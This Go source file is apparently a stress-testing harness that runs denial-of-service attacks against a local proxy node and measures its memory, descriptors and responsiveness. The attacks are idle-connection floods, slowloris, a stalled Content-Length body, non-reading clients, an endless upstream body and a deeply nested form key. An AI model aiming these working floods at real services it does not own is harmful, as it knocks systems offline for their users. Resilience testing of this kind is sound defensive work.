package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/rs/zerolog"
)

// env is what the attacks know about the node and how hard to push.
type env struct {
	pid         int
	proxyAddr   string // host:port of the proxy
	adminURL    string
	probeURL    string
	upstreamURL string

	hold          time.Duration // how long a flood is held open
	settleMax     time.Duration // longest wait for the node's descriptors to come back down
	headerTimeout time.Duration // the node's nginx_proxy_client_header_timeout
	idleConns     int
	slowConns     int
	slowEvery     time.Duration
	lengthConns   int
	declared      int64
	bigClients    int
	endlessFor    time.Duration
	nestLevels    int
	clientLimit   uint64 // this process's descriptor limit
	log           zerolog.Logger
}

// attack is one way of hurting the node. run starts it, holds it while
// the node is measured, ends it (closing every connection it opened) and
// returns what it found and a short form of that for the table.
type attack struct {
	name  string
	title string
	run   func(e *env) (finding, brief string)
}

// result is one attack's figures.
type result struct {
	attack                 attack
	before, peak, after    procStats
	during, afterward      probeStats
	finding, brief, status string
	settled                time.Duration
}

func runAttacks(args []string, log zerolog.Logger) error {
	e := &env{log: log}
	fs := flag.NewFlagSet("attack", flag.ExitOnError)
	fs.IntVar(&e.pid, "pid", 0, "process id of the node under attack")
	fs.StringVar(&e.proxyAddr, "proxy", "127.0.0.1:8000", "the node's proxy address")
	admin := fs.String("admin", "127.0.0.1:8001", "the node's Admin API address")
	up := fs.String("upstream", "127.0.0.1:9000", "the hostile upstream's address (for its request counts)")
	fs.DurationVar(&e.hold, "hold", 15*time.Second, "how long each flood is held")
	fs.DurationVar(&e.settleMax, "settle", 15*time.Second, "longest wait after a flood for the node's descriptors to come down")
	fs.DurationVar(&e.headerTimeout, "header-timeout", 10*time.Second, "the node's nginx_proxy_client_header_timeout (slowloris waits twice this)")
	fs.IntVar(&e.idleConns, "idle", 20000, "idle connections of attack 1")
	fs.IntVar(&e.slowConns, "slow", 5000, "slowloris connections of attack 2")
	fs.DurationVar(&e.slowEvery, "slow-every", 5*time.Second, "time between two header bytes of a slowloris connection")
	fs.IntVar(&e.lengthConns, "length-conns", 20, "connections of attack 3")
	fs.Int64Var(&e.declared, "declared", 64<<20, "Content-Length attack 3 declares")
	fs.IntVar(&e.bigClients, "big-clients", 3, "clients of attack 4a that ask for /big and do not read")
	fs.DurationVar(&e.endlessFor, "endless-for", 15*time.Second, "how long the upstream's /endless lasts (as given to hostile upstream)")
	fs.IntVar(&e.nestLevels, "nest-levels", 2_000_000, "nesting levels of the form key of attack 5")
	only := fs.String("only", "", "comma-separated attack names to run (default: all)")
	fs.Parse(args)
	if e.pid == 0 {
		return fmt.Errorf("-pid is required")
	}
	e.adminURL = "http://" + *admin
	e.probeURL = "http://" + e.proxyAddr + "/probe"
	e.upstreamURL = "http://" + *up
	limit, err := raiseNofile(uint64(max(e.idleConns, e.slowConns) + 2*fdReserve))
	if err != nil {
		log.Warn().Err(err).Msg("keeping the descriptor limit")
	}
	e.clientLimit = limit

	fmt.Fprintf(report, "load program: descriptor limit %d (wanted %d; hard limit %s)\n", limit,
		max(e.idleConns, e.slowConns)+2*fdReserve, hardNofile())
	fmt.Fprintf(report, "node pid %d: %s; proxy %s, admin %s\n", e.pid, nodeNofile(e.pid), e.proxyAddr, *admin)
	var results []result
	for _, a := range attacks() {
		if *only != "" && !strings.Contains(","+*only+",", ","+a.name+",") {
			continue
		}
		r := e.measure(a)
		printResult(r)
		results = append(results, r)
	}
	printTable(results)
	return nil
}

func attacks() []attack {
	return []attack{
		{"idle", "1. idle TCP connections", (*env).idleFlood},
		{"slowloris", "2. slowloris: a header byte every few seconds", (*env).slowloris},
		{"length", "3. a declared Content-Length, one byte sent, then nothing", (*env).declaredLength},
		{"big", "4a. clients that ask for a big upstream body and do not read", (*env).bigNotReading},
		{"endless", "4b. one request for an endless chunked upstream body", (*env).endless},
		{"nested", "5. POST /services with a deeply nested form key", (*env).nestedForm},
	}
}

// measure runs one attack between a look at the node before it and one
// after the node's descriptors came back down, sampling the node and
// probing the proxy meanwhile.
func (e *env) measure(a attack) result {
	fmt.Fprintf(report, "\n== %s\n", a.title)
	r := result{attack: a, before: readProc(e.pid)}
	s := startSampler(e.pid, 200*time.Millisecond)
	p := startProber(e.probeURL, 500*time.Millisecond)
	r.finding, r.brief = a.run(e)
	r.peak = s.stop()
	r.during = p.stop()
	r.after, r.settled = e.settle(r.before)
	if r.after.up {
		r.afterward = probeAfter(e.probeURL, 3)
	}
	r.status = fetchStatus(e.adminURL)
	return r
}

// settle waits until the upstream sends no more bodies (the proxy may
// still be reading one when its client is gone; at most 2×settleMax), then
// until the node holds about as many descriptors as before the attack (at
// most settleMax), and returns the node's state then, so that one attack
// does not run into the next.
func (e *env) settle(before procStats) (procStats, time.Duration) {
	start := time.Now()
	e.waitUpstream(func(s upstreamStats) int64 { return s.BigRunning + s.EndlessRunning }, 2*e.settleMax)
	fdsFrom := time.Now()
	for {
		now := readProc(e.pid)
		if !now.up || now.fds <= before.fds+16 || time.Since(fdsFrom) >= e.settleMax {
			time.Sleep(time.Second) // let the runtime give back what it frees at once
			return readProc(e.pid), time.Since(start)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

// flood budget: as many as asked, or as this process can hold.
func (e *env) budget(want int) int {
	return min(want, int(e.clientLimit)-openFDs()-fdReserve)
}

func (e *env) idleFlood() (string, string) {
	n := e.budget(e.idleConns)
	res := dialMany("127.0.0.2", e.proxyAddr, n, nil, time.Minute)
	opened := fmt.Sprintf("opened %d of %d in %.1fs", len(res.conns), e.idleConns, res.took.Seconds())
	if n < e.idleConns {
		opened += fmt.Sprintf(" (this process can hold only %d: descriptor limit %d)", n, e.clientLimit)
	}
	if f := res.failureText(); f != "" {
		opened += "; failed: " + f
	}
	time.Sleep(e.hold)
	c := takeCensus(res.conns)
	closeAll(res.conns)
	return fmt.Sprintf("%s\n   after %s held: %s", opened, e.hold, c),
		fmt.Sprintf("%d opened, %d closed by node", len(res.conns), c.closed)
}

// slowloris sends a request line and a header one byte at a time and
// never ends the header; the node must close each within its header
// timeout.
func (e *env) slowloris() (string, string) {
	script := []byte("GET /probe HTTP/1.1\r\nHost: slow\r\nX-Slow: ")
	res := dialMany("127.0.0.3", e.proxyAddr, e.budget(e.slowConns), script[:1], time.Minute)
	wait := 2 * e.headerTimeout
	deadline := time.Now().Add(wait)
	tick := time.NewTicker(e.slowEvery)
	defer tick.Stop()
	failed := make(map[*net.TCPConn]bool)
	for i := 1; time.Now().Before(deadline); i++ {
		select {
		case <-tick.C:
		case <-time.After(time.Until(deadline)):
			continue
		}
		b := byte('a')
		if i < len(script) {
			b = script[i]
		}
		for _, c := range res.conns {
			if failed[c] {
				continue
			}
			c.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := c.Write([]byte{b}); err != nil {
				failed[c] = true
			}
		}
	}
	c := takeCensus(res.conns)
	closeAll(res.conns)
	open := len(res.conns) - c.closed
	out := fmt.Sprintf("opened %d of %d in %.1fs, a byte every %s, header timeout %s", len(res.conns), e.slowConns,
		res.took.Seconds(), e.slowEvery, e.headerTimeout)
	if f := res.failureText(); f != "" {
		out += "; failed: " + f
	}
	return fmt.Sprintf("%s\n   after 2× the timeout (%s): %d still open (want 0); %s", out, wait, open, c),
		fmt.Sprintf("%d/%d open after %s (want 0)", open, len(res.conns), wait)
}

// declaredLength announces a big body, sends one byte of it and waits.
func (e *env) declaredLength() (string, string) {
	head := fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: hostile\r\nContent-Type: application/octet-stream\r\n"+
		"Content-Length: %d\r\n\r\nx", e.declared)
	res := dialMany("127.0.0.4", e.proxyAddr, e.lengthConns, []byte(head), 30*time.Second)
	time.Sleep(e.hold)
	c := takeCensus(res.conns)
	closeAll(res.conns)
	return fmt.Sprintf("%d connections declared %d bytes and sent 1; after %s: %s", len(res.conns), e.declared, e.hold, c),
		fmt.Sprintf("%d closed, %d answered %s", c.closed, c.answered, statusCode(c.sample))
}

// bigNotReading asks for /big and never reads the answer.
func (e *env) bigNotReading() (string, string) {
	res := dialMany("127.0.0.5", e.proxyAddr, e.bigClients, []byte("GET /big HTTP/1.1\r\nHost: hostile\r\n\r\n"), 30*time.Second)
	time.Sleep(e.hold)
	// Reading would make them readers: ask the node how many it still holds.
	active, err := activeConns(e.adminURL)
	brief := fmt.Sprintf("node holds %s conns after %s", active, e.hold)
	if err != nil {
		active = "? (" + shortError(err) + ")"
		brief = "/status unanswered after " + e.hold.String()
	}
	c := takeCensus(res.conns)
	closeAll(res.conns)
	st, _ := e.upstreamStats()
	return fmt.Sprintf("%d clients asked for /big and read nothing; after %s the node holds %s client connections (a probe included); "+
			"then %s; the upstream was asked %d times, %d still sending then",
			len(res.conns), e.hold, active, c, st.BigStarted, st.BigRunning),
		brief
}

// endless asks for /endless and reads whatever comes until the upstream
// gives up (after endlessFor) and the proxy ends the answer.
func (e *env) endless() (string, string) {
	start := time.Now()
	conn, err := net.DialTimeout("tcp", e.proxyAddr, 3*time.Second)
	if err != nil {
		return "dial failed: " + err.Error(), "dial failed"
	}
	defer conn.Close()
	conn.SetDeadline(start.Add(e.endlessFor + e.hold))
	fmt.Fprintf(conn, "GET /endless?id=%d HTTP/1.1\r\nHost: hostile\r\n\r\n", start.UnixNano())
	got, n, err := readAnswer(conn)
	ended := "the answer ended"
	if err != nil {
		ended = shortError(err)
	}
	took := time.Since(start)
	conn.Close()
	e.waitUpstream(func(s upstreamStats) int64 { return s.EndlessRunning }, e.settleMax)
	time.Sleep(2 * time.Second) // the proxy's retries come once it has failed the first try
	st, _ := e.upstreamStats()
	// The upstream fails a repeated request at once (see upstream.endless).
	return fmt.Sprintf("client got %s, %d body bytes in %.1fs, then %s; the upstream was asked %d times "+
			"(repeats failed at once), %d still sending", got, n, took.Seconds(), ended, st.EndlessStarted, st.EndlessRunning),
		fmt.Sprintf("%s, %d MiB; upstream asked %d×", got, n>>20, st.EndlessStarted)
}

// readAnswer reads one HTTP answer from conn: "status N" (or "no answer")
// and how many body bytes came before it ended or failed.
func readAnswer(conn net.Conn) (string, int64, error) {
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return "no answer", 0, err
	}
	defer resp.Body.Close()
	n, err := io.Copy(io.Discard, resp.Body)
	return fmt.Sprintf("status %d", resp.StatusCode), n, err
}

// nestedForm sends POST /services with a form key nested nestLevels deep.
func (e *env) nestedForm() (string, string) {
	var body strings.Builder
	body.Grow(2*e.nestLevels + 32)
	body.WriteString("name=nested&host=h&a")
	for range e.nestLevels {
		body.WriteString(".b")
	}
	body.WriteString("=1")
	client := &http.Client{Timeout: 2 * time.Minute}
	start := time.Now()
	resp, err := client.Post(e.adminURL+"/services", "application/x-www-form-urlencoded", strings.NewReader(body.String()))
	took := time.Since(start)
	if err != nil {
		return fmt.Sprintf("%d levels, %.1f MB: no answer after %.1fs: %v", e.nestLevels, float64(body.Len())/1e6, took.Seconds(), err),
			"no answer"
	}
	defer resp.Body.Close()
	msg, _ := io.ReadAll(io.LimitReader(resp.Body, 160))
	return fmt.Sprintf("%d levels, %.1f MB: answered %d in %.1fs: %s", e.nestLevels, float64(body.Len())/1e6,
			resp.StatusCode, took.Seconds(), strings.TrimSpace(string(msg))),
		fmt.Sprintf("%d in %.1fs", resp.StatusCode, took.Seconds())
}

// waitUpstream waits (at most within) until running of the upstream's
// counts is 0, and returns the counts then.
func (e *env) waitUpstream(running func(upstreamStats) int64, within time.Duration) upstreamStats {
	deadline := time.Now().Add(within)
	for {
		st, err := e.upstreamStats()
		if err != nil {
			e.log.Warn().Err(err).Msg("reading the upstream's counts")
			return st
		}
		if running(st) == 0 || time.Now().After(deadline) {
			return st
		}
		time.Sleep(250 * time.Millisecond)
	}
}

func (e *env) upstreamStats() (upstreamStats, error) {
	var st upstreamStats
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Get(e.upstreamURL + "/_stats")
	if err != nil {
		return st, fmt.Errorf("asking the upstream: %w", err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		return st, fmt.Errorf("reading the upstream's counts: %w", err)
	}
	return st, nil
}

// statusCode is the code of a status line, "-" without one.
func statusCode(line string) string {
	if f := strings.Fields(line); len(f) >= 2 && strings.HasPrefix(f[0], "HTTP/") {
		return f[1]
	}
	return "-"
}

// nodeNofile is the node's "Max open files" from /proc/PID/limits.
func nodeNofile(pid int) string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
	if err != nil {
		return "descriptor limit unknown"
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); strings.HasPrefix(line, "Max open files") && len(f) >= 5 {
			return fmt.Sprintf("descriptor limit %s (hard %s)", f[3], f[4])
		}
	}
	return "descriptor limit unknown"
}

func printResult(r result) {
	w := report
	fmt.Fprintf(w, "   %s\n", r.finding)
	fmt.Fprintf(w, "   node RSS MB  before %s  peak %s  after %s\n", r.before.rss(), r.peak.rss(), r.after.rss())
	fmt.Fprintf(w, "   node fds     before %s  peak %s  after %s (settled in %.1fs)\n", r.before.fdCount(),
		r.peak.fdCount(), r.after.fdCount(), r.settled.Seconds())
	fmt.Fprintf(w, "   GET /probe during: %s\n", r.during)
	fmt.Fprintf(w, "   GET /probe after:  %s\n", r.afterward)
	fmt.Fprintf(w, "   /status: %s\n", r.status)
	if !r.after.up {
		fmt.Fprintf(w, "   THE NODE IS DOWN\n")
	}
}

func printTable(results []result) {
	w := report
	fmt.Fprintf(w, "\n%-10s %-20s %-20s %-22s %-16s %s\n", "attack", "RSS MB b/peak/a", "fds b/peak/a",
		"200s during p50/max ms", "200s after", "result")
	for _, r := range results {
		fmt.Fprintf(w, "%-10s %-20s %-20s %-22s %-16s %s\n", r.attack.name,
			r.before.rss()+"/"+r.peak.rss()+"/"+r.after.rss(),
			r.before.fdCount()+"/"+r.peak.fdCount()+"/"+r.after.fdCount(),
			r.during.short(), r.afterward.short(), r.brief)
	}
}
